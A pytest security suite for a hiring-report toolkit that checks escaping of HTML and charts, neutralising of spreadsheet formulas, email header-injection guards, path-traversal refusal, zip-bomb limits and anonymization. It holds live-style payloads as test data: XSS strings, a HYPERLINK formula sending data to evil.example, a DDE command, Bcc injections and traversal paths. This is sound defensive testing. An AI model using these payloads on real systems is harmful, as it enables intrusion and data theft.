"""Safety of everything Debrief writes, fed hostile text through the real loader and the whole report.

- HTML: a name, note, criterion or evidence with markup shows as text in every page (autoescape);
- workbooks: text that starts with = + - @ stays text in every workbook written (no formula cell at all);
  Debrief writes no CSV files (every table output is a workbook), which is checked too;
- .eml drafts: no line break of any kind in a name, email, role or signer adds a header;
- a candidate or round id such as ``../../x`` never writes outside the output folder;
- a zip bomb is refused by the size limits, with a message that says so;
- the anonymized cross-round outputs hold no candidate's name, email, note or evidence: every byte is
  searched, inside the workbooks' zip parts too.
"""

from __future__ import annotations

import html
import io
import json
import re
import struct
import zipfile
from email import policy
from email.parser import BytesParser
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from markupsafe import escape

import toolkit
from toolkit.errors import InputFileError, OutputError
from toolkit.readers import excel
from toolkit.report import OWNED, Report, build_report, write_report
from toolkit.workbook import scorecard_workbook_bytes

ROOT = Path(__file__).resolve().parents[1]
AS_OF = "2026-03-20"
BREAKS = ["\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+49 30 1234", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def hostile_tables() -> dict:
    """A small round whose every free-text field carries markup, template syntax, formulas or line breaks."""
    role = {"role": "Data <b>Analyst</b>\r\nBcc: spy@evil.example", "department": "<i>Finance</i>", "hiring_manager": "Priya <u>Shah</u>",
            "country": "GB", "language": "en", "response_target_days": 3, "decided_on": "2026-03-13", "scale": "1-5",
            "company": "North{{ 7*7 }}wind\nX-Evil: 1", "sender_name": "Priya\u2028Bcc: boss@evil.example", "sender_title": "=1+1"}
    criteria = pd.DataFrame({
        "criterion": ["SQL <script>alert('c')</script>", "Statistics", "Team fit"], "rank": [1, 2, 3], "must_have": ["yes", "no", "no"],
        "bar": [3, 3, None], "description": ["<img src=x onerror=alert('d')>", "{% raw %}", "=1+2"],
        "growth_tip": ["<a href=javascript:alert('g')>learn</a>", None, "@SUM(1)"],
    })
    names = ["Amira <script>alert('n1')</script> Haddad", 'Ben "><img src=x onerror=alert(\'n2\')> Okafor',
             "Chloe</script><script>alert('n3')</script>", FORMULAS[0], FORMULAS[1], FORMULAS[3]]
    names += [f"Person{i}{br}Bcc: spy{i}@evil.example" for i, br in enumerate(BREAKS)]
    n = len(names)
    candidates = pd.DataFrame({
        "candidate_id": [f"C{i}" for i in range(n)], "name": names,
        "email": [f"p{i}@example.org" if i % 3 else f"p{i}@example.org{BREAKS[i % len(BREAKS)]}Bcc: x@evil.example" for i in range(n)],
        "status": ["hired"] + ["rejected"] * (n - 1),
        "last_interview_on": ["2026-03-10"] * n, "notified_on": ["2026-03-13"] + [None] * (n - 1), "channel": ["phone"] + [None] * (n - 1),
        "notes": [f"<b>note {i}</b> {FORMULAS[i % len(FORMULAS)]}" for i in range(n)],
        "stay_in_touch": ["yes" if i == 1 else None for i in range(n)],
    })
    rows = []
    for i in range(n):
        for who in ("Sam <em>Lee</em>", "=Ops"):
            for j, crit in enumerate(criteria["criterion"]):
                rows.append({"candidate_id": f"C{i}", "interviewer": who, "criterion": crit, "score": 5 - (i + j) % 4,
                             "stage": "Panel<br>", "interviewed_on": "2026-03-10", "evidence": f"<script>alert('e{i}')</script> -1+1"})
    return {"role": role, "criteria": criteria, "candidates": candidates, "scores": pd.DataFrame(rows)}


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    """The hostile round written as a workbook, loaded by the real loader, and reported."""
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "hostile.xlsx"
    tables = hostile_tables()
    path.write_bytes(scorecard_workbook_bytes(tables["role"], tables["criteria"], tables["candidates"], tables["scores"]))
    rnd = toolkit.load_round(path, as_of=AS_OF)
    assert len(rnd.candidates) == len(tables["candidates"]) and len(rnd.scores) == len(tables["scores"])
    return rnd, build_report(rnd, as_of=AS_OF), path


SCRIPT_OPEN = re.compile(r"<script\b", re.I)
SCRIPT_CLOSE = re.compile(r"</script\s*>", re.I)


def test_markup_from_the_workbook_shows_as_text_in_every_html_page(hostile_report):
    rnd, report, _ = hostile_report
    pages = {k: v.decode("utf-8") for k, v in report.files.items() if k.endswith(".html")}
    assert len(pages) >= 3 + 2 * (len(rnd.candidates) - 1)  # index, health, committee, a letter and call notes each
    for name, page in pages.items():
        for raw in ("<script>alert(", "alert('n3')</script>", "<img src=x", "<a href=javascript", "<b>Analyst</b>",
                    "<i>Finance</i>", "<u>Shah</u>", "<em>Lee</em>", "<b>note", "Panel<br>"):
            assert raw not in page, f"{name} holds raw markup {raw!r}"
        # the page's own scripts are the only ones: every <script> is closed by its own </script>
        assert len(SCRIPT_OPEN.findall(page)) == len(SCRIPT_CLOSE.findall(page)), name
        assert "North49wind" not in page  # template syntax in data is never evaluated
    committee = pages[f"{rnd.round_id}/committee.html"]
    assert str(escape("Ben \"><img src=x onerror=alert('n2')> Okafor")) in committee  # shown, escaped, not dropped
    assert str(escape("SQL <script>alert('c')</script>")) in committee
    letter = pages[f"{rnd.round_id}/candidates/C2/letter.html"]
    assert "Dear Chloe&lt;/script&gt;&lt;script&gt;alert(&#39;n3&#39;)&lt;/script&gt;" in letter
    assert "North{{ 7*7 }}wind" in letter


def _cells(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def _no_formula_parts(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for part in z.namelist():
            if part.startswith("xl/worksheets/") and part.endswith(".xml"):
                assert not re.search(rb"<f[\s>/]", z.read(part)), f"{part} holds a formula"


MARKUP = ["<script", "<img", "<b>Analyst", "<em>Lee", "<i>Finance", "Panel<br>"]


def _figure_strings(obj):
    """Every string of a figure's JSON: plotly draws each of them (names, categories, hover text) as its own markup."""
    if isinstance(obj, dict):
        for value in obj.values():
            yield from _figure_strings(value)
    elif isinstance(obj, (list, tuple)):
        for value in obj:
            yield from _figure_strings(value)
    elif hasattr(obj, "tolist"):
        yield from _figure_strings(obj.tolist())
    elif isinstance(obj, str):
        yield obj


def test_markup_in_names_criteria_and_stages_is_drawn_as_text_in_every_chart(hostile_report):
    """plotly reads <b>, <br> and <a href> in tick labels, legends and hover text; a candidate, criterion, interviewer
    or stage carrying markup is drawn as written: the figure holds it escaped, and nowhere raw."""
    from toolkit import charts

    rnd, _, _ = hostile_report
    other = toolkit.load_round(ROOT / "data" / "sample" / "manchester-data-analyst.xlsx", as_of=AS_OF)
    both = toolkit.timelines(toolkit.Rounds([rnd, other]), as_of=AS_OF)
    figures = {
        "heatmap": charts.criterion_heatmap(rnd), "contributions": charts.contribution_bars(rnd),
        "profile": charts.candidate_profile(rnd, "C1"), "own profile": charts.candidate_profile(rnd, "C1", show_selected=False),
        "spread": charts.interviewer_spread(rnd), "spread of one": charts.interviewer_spread(rnd, "C1"),
        "calibration": charts.interviewer_calibration_chart(rnd), "progression": charts.progression_chart(rnd, highlight=2),
        "robustness": charts.robustness_chart(rnd), "timeline": charts.timeline_chart(both, AS_OF, include_all=True),
        "by week": charts.timeline_by_week(both, AS_OF), "channels": charts.channel_mix(both), "overdue": charts.overdue_table(both, AS_OF),
    }
    for what, fig in figures.items():
        strings = list(_figure_strings(fig.to_plotly_json()))
        raw = [s for s in strings if any(m in s for m in MARKUP)]
        assert not raw, f"{what} draws markup from the data: {raw[:3]}"
    heatmap = figures["heatmap"].to_plotly_json()
    assert html.escape("Amira <script>alert('n1')</script> Haddad", quote=False) in heatmap["layout"]["yaxis"]["categoryarray"]
    assert html.escape("SQL <script>alert('c')</script>", quote=False) in heatmap["data"][0]["x"]
    progression = figures["progression"].to_plotly_json()
    assert progression["layout"]["xaxis"]["categoryarray"] == ["Panel&lt;br&gt;"]
    assert any("without Sam &lt;em&gt;Lee&lt;/em&gt;" in s for s in _figure_strings(figures["robustness"].to_plotly_json()))


def test_text_that_looks_like_a_formula_stays_text_in_every_workbook_written(hostile_report):
    rnd, report, path = hostile_report
    workbooks = {k: v for k, v in report.files.items() if k.endswith(".xlsx")}
    workbooks["the scorecard workbook"] = path.read_bytes()
    assert {"process-health.xlsx", "talent-pool.xlsx", f"{rnd.round_id}/mail-merge.xlsx"} <= set(workbooks)
    texts = set()
    for name, data in workbooks.items():
        _no_formula_parts(data)
        for sheet, cell in _cells(data):
            assert cell.data_type != "f", f"{name} {sheet}!{cell.coordinate} is a formula"
            if isinstance(cell.value, str):
                texts.add(cell.value)
                if cell.value[:1] in "=+-@":
                    assert cell.data_type in ("s", "inlineStr"), f"{name} {sheet}!{cell.coordinate}"
                    # and it stays text when someone edits it: Excel's quote prefix (a ' in the formula bar)
                    assert cell.quotePrefix, f"{name} {sheet}!{cell.coordinate} {cell.value!r} has no quote prefix"
    for payload in (FORMULAS[0], FORMULAS[1], FORMULAS[3], "=Ops", "=1+1"):  # kept, as text, not dropped
        assert payload in texts, payload
    assert not [k for k in report.files if k.lower().endswith((".csv", ".tsv"))]  # tables go out as workbooks only


def test_no_line_break_in_a_name_email_role_or_signer_adds_an_eml_header(hostile_report):
    rnd, report, _ = hostile_report
    drafts = {k: v for k, v in report.files.items() if k.endswith(".eml")}
    assert len(drafts) == len(rnd.candidates) - 1  # every rejected candidate
    allowed = {"to", "from", "subject", "x-unsent", "content-type", "content-transfer-encoding", "mime-version", "content-language"}
    for name, data in drafts.items():
        head = data.split(b"\r\n\r\n", 1)[0].decode("ascii")
        for line in head.split("\r\n"):
            assert line.startswith((" ", "\t")) or line.split(":", 1)[0].lower() in allowed, f"{name}: header line {line!r}"
        msg = BytesParser(policy=policy.default).parsebytes(data)
        assert {k.lower() for k in msg.keys()} <= allowed and msg["Bcc"] is None and msg["Cc"] is None
        assert len(msg.get_all("To") or []) <= 1 and len(msg["To"].addresses if msg["To"] else ()) <= 1
        assert "evil.example" not in str(msg["To"] or "").split("<")[-1]  # the recipient is the candidate's own address
        assert "Bcc" not in msg["Subject"] or "spy@evil.example role" in msg["Subject"]  # flattened into the subject text


@pytest.mark.parametrize("candidate_id", ["../../x", "/etc/passwd", "..\\..\\windows", "a/../../b", "..", ".", "~", "CON", "x" * 300])
def test_an_id_cannot_write_outside_the_output_folder(tmp_path, candidate_id):
    t = hostile_tables()
    candidates = t["candidates"].iloc[:3].copy()
    candidates.loc[2, "candidate_id"] = candidate_id
    scores = t["scores"][t["scores"]["candidate_id"].isin(["C0", "C1", "C2"])].copy()
    scores.loc[scores["candidate_id"] == "C2", "candidate_id"] = candidate_id
    rnd = toolkit.validate.round_from_frames(t["role"], t["criteria"], candidates, scores, round_id="../../round", as_of=AS_OF)
    assert candidate_id in set(rnd.candidates["candidate_id"])
    report = build_report(rnd, as_of=AS_OF)
    out = tmp_path / "deep" / "reports"
    write_report(report, out)
    written = {p for p in tmp_path.rglob("*") if p.is_file()}
    assert written and all(p.resolve().is_relative_to(out.resolve()) for p in written)
    assert len(written) == len(report.files) + 1  # and the list of what the report wrote (report.OWNED)
    assert (out / OWNED).read_text(encoding="utf-8").splitlines() == sorted({Path(rel).parts[0] for rel in report.files})
    letters = [p for p in written if p.name == "letter.html"]
    assert len(letters) == 2 and len({p.parent for p in letters}) == 2  # the odd id has a folder of its own


def test_the_writer_refuses_a_path_that_leaves_the_output_folder(tmp_path):
    with pytest.raises(OutputError, match="leave the output folder"):
        write_report(Report({"index.html": b"ok", "../escaped.txt": b"no"}, {}), tmp_path / "reports")
    assert not (tmp_path / "escaped.txt").exists()


def _forged_zip(members: dict[str, bytes], declared: dict[str, int]) -> bytes:
    """A zip whose table of contents claims other unpacked sizes than the data has (as bombs do)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    data = bytearray(buf.getvalue())
    for sig, size_at, name_len_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        pos = data.find(sig)
        while pos >= 0:
            n = struct.unpack_from("<H", data, pos + name_len_at)[0]
            name = bytes(data[pos + name_at:pos + name_at + n]).decode()
            if name in declared:
                struct.pack_into("<I", data, pos + size_at, declared[name])
            pos = data.find(sig, pos + 4)
    return bytes(data)


def test_a_zip_bomb_is_refused_by_its_packing_ratio():
    with pytest.raises(InputFileError) as info:
        toolkit.load_round(ROOT / "tests" / "data" / "bad" / "zip-bomb.xlsx")
    message = str(info.value)
    assert "zip-bomb.xlsx" in message and "xl/worksheets/sheet5.xml" in message and "far more than any real workbook" in message
    assert "zip bomb" in info.value.hint


def test_a_workbook_that_would_unpack_beyond_the_limit_is_refused_before_anything_is_unpacked(tmp_path):
    # 40 parts, each claiming 60 MiB (under the per-part ratio check), 2.3 GiB together: over the 2 GiB limit
    parts = {f"xl/worksheets/sheet{i}.xml": b"<worksheet/>" for i in range(40)}
    path = tmp_path / "huge.xlsx"
    path.write_bytes(_forged_zip(parts, {name: 60 * 1024**2 for name in parts}))
    assert 40 * 60 * 1024**2 > excel.MAX_UNPACKED_BYTES
    with pytest.raises(InputFileError) as info:
        toolkit.load_round(path)
    assert "huge.xlsx" in str(info.value) and "would unpack to 2.3 GiB, over the limit of 2 GiB" in str(info.value)
    assert "zip bomb" in info.value.hint


# -- anonymized outputs ---------------------------------------------------------------------------------------


def _forms(text: str) -> set[bytes]:
    """The ways a text can appear in an output: as is, HTML-escaped, JSON-escaped, XML-escaped (all UTF-8)."""
    json_ascii = json.dumps(text)[1:-1]
    return {f.encode("utf-8") for f in (text, html.escape(text), html.escape(text, quote=False), str(escape(text)), json_ascii,
                                       text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")) if f}


def _all_bytes(name: str, data: bytes) -> list[tuple[str, bytes]]:
    """The file's bytes, and for a workbook each unpacked part's bytes."""
    if name.endswith(".xlsx"):
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            return [(f"{name}:{part}", z.read(part)) for part in z.namelist()]
    return [(name, data)]


def test_anonymized_cross_round_outputs_hold_no_name_email_note_or_evidence_in_any_byte(sample_paths):
    rounds = toolkit.load_rounds(sample_paths, as_of=AS_OF)
    report = build_report(rounds, as_of=AS_OF, anonymize=True, pseudonym_key=b"the folder's secret")
    cross_round = {k: v for k, v in report.files.items() if "/" not in k and not k.startswith(".")}  # .debrief-key: the secret
    assert set(cross_round) == {"index.html", "process-health.html", "process-health.xlsx", "talent-pool.xlsx", "summary.json"}
    c = rounds.candidates
    secrets = set(c["name"]) | set(c["email"].dropna())
    secrets |= {e.split("@")[0] for e in c["email"].dropna()}
    secrets |= {n for n in c["notes"].dropna() if len(n) > 12} | {e for e in rounds.scores["evidence"].dropna() if len(e) > 12}
    assert len(secrets) > 50
    forms = {(s, f) for s in secrets for f in _forms(s)}
    for name, data in cross_round.items():
        for where, blob in _all_bytes(name, data):
            leaked = sorted({s for s, f in forms if f in blob})
            assert not leaked, f"{where} holds {leaked[:3]}"
    # what the pseudonyms stand in for is still there: every candidate, under a stable alias
    summary = json.loads(report.files["summary.json"])
    assert len(summary["candidates"]) == len(c)
    assert all(re.fullmatch(r"Candidate [0-9A-F]{8}", r["name"]) for r in summary["candidates"])
    again = build_report(rounds, as_of=AS_OF, anonymize=True, pseudonym_key=b"the folder's secret")
    assert again.files["summary.json"] == report.files["summary.json"]


def test_without_anonymize_the_same_outputs_do_name_the_candidates(sample_paths):
    """The search above can find names: without --anonymize they are there."""
    rounds = toolkit.load_rounds(sample_paths, as_of=AS_OF)
    report = build_report(rounds, as_of=AS_OF)
    name = rounds.candidates["name"].iloc[1]
    assert any(f in blob for n, d in report.files.items() if "/" not in n for _, blob in _all_bytes(n, d) for f in _forms(name))


def test_an_anonymized_letter_check_names_the_rule_not_the_word_it_found(sample_paths):
    """A note saying a candidate is pregnant is flagged by the letter check; the anonymized summary.json says which rule
    for which pseudonym, not the words (before, the message quoted them: 'Mentions pregnancy ... ('pregnant')')."""
    import dataclasses

    rnd = toolkit.load_round(sample_paths[0], as_of=AS_OF)
    cands = rnd.candidates.copy()
    rejected = cands.index[cands["status"] == "rejected"][0]
    cands.loc[rejected, "notes"] = "Mentioned that she is pregnant and plans parental leave"
    report = build_report(toolkit.Rounds((dataclasses.replace(rnd, candidates=cands),)), as_of=AS_OF, anonymize=True,
                          pseudonym_key=b"the folder's secret")
    summary = report.files["summary.json"].decode()
    findings = json.loads(summary)["lint_findings"]
    assert findings and {f["rule"] for f in findings} == {"protected_characteristic"}
    assert "pregnan" not in summary and "parental" not in summary
